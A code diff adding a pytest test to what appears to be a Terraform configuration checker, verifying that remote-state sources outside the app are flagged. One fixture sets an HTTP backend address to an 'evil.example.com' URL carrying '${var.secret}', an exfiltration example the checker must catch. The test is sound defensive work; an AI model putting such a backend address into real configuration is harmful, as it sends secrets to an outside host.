@@ -84,6 +84,33 @@ def test_a_comment_within_a_value_is_none() -> None:
         assert "function 'file' is not allowed" in line
 
 
+@pytest.mark.parametrize(
+    ("name", "config", "expected"),
+    [
+        ("elsewhere", {"path": "x"}, "it reads a state of no stack of this app"),
+        ("cross-stack-reference-input-evil", {"path": "/srv/x"}, "it reads a state of no stack of this app"),
+        (
+            "cross-stack-reference-input-dev",
+            {"address": "https://evil.example.com/?s=${var.secret}"},
+            "an expression says where the state is",
+        ),
+    ],
+)
+def test_only_states_of_the_app_are_read(name: str, config: dict[str, str], expected: str) -> None:
+    """A state of another stack, read or only named, would bring its values in or send a secret out; ours pass."""
+    state = {name: {"backend": "http", "config": config, "workspace": "${terraform.workspace}"}}
+    (line,) = faults("", data={"terraform_remote_state": state})
+    assert expected in line
+
+    own = {"cross-stack-reference-input-dev": {"backend": "local", "workspace": "${terraform.workspace}"}}
+    assert faults("", data={"terraform_remote_state": own}) == []
+    allowed = Allowance(
+        reason="the platform team's state has the network", references=frozenset({"data.terraform_remote_state.net"})
+    )
+    net = {"net": {"backend": "s3", "config": {"bucket": "b"}}}
+    assert faults("", allowed, data={"terraform_remote_state": net}) == []
+
+
 def test_a_backend_takes_no_expression() -> None:
     """Where Terraform evaluates nothing, an expression is a mistake."""
     (line,) = faults("", terraform={"backend": {"local": {"path": "${var.path}"}}})
